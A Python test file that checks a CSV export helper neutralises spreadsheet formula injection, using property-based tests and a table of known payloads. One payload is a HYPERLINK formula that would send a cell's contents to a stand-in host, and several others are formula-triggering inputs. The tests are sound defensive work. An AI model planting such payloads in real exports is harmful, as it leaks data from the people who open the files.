"""The one CSV writer of every export: no cell a spreadsheet could run as a formula."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from callbridge.services.csv_export import FORMULA_STARTS, csv_chunks, spreadsheet_safe

# Text that often starts with a formula character, plus anything at all.
cells = st.one_of(
    st.text(max_size=30),
    st.builds(lambda a, b: a + b, st.sampled_from(sorted(FORMULA_STARTS | {"'", " "})), st.text(max_size=20)),
)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=5), max_size=30), st.integers(1, 7))
def test_no_exported_cell_starts_with_a_formula_character(rows: list[list[str]], per_chunk: int) -> None:
    header = ["=a", "b"]
    text = "".join(csv_chunks(header, rows, per_chunk))
    back = read_back(text)
    assert len(back) == len(rows) + 1
    for row in back:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, cell
    # Nothing else changes: one leading apostrophe is all there is to take off.
    assert [[unescape(c) for c in row] for row in back[1:]] == rows


def test_known_payloads_are_neutralised_and_numbers_stay_text() -> None:
    payloads = {
        '=1+HYPERLINK("http://x.test/?"&A1,"click")': '\'=1+HYPERLINK("http://x.test/?"&A1,"click")',
        "-2+3": "'-2+3",
        "@1+SUM(1)": "'@1+SUM(1)",
        "+4930123456": "'+4930123456",  # an E.164 number: text, not 4.93E+09
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "＝1+1": "'＝1+1",
        "Ada": "Ada",
        "": "",
        "'=already": "''=already",
        "'quoted": "''quoted",
        "1-2": "1-2",
    }
    for raw, shown in payloads.items():
        assert spreadsheet_safe(raw) == shown
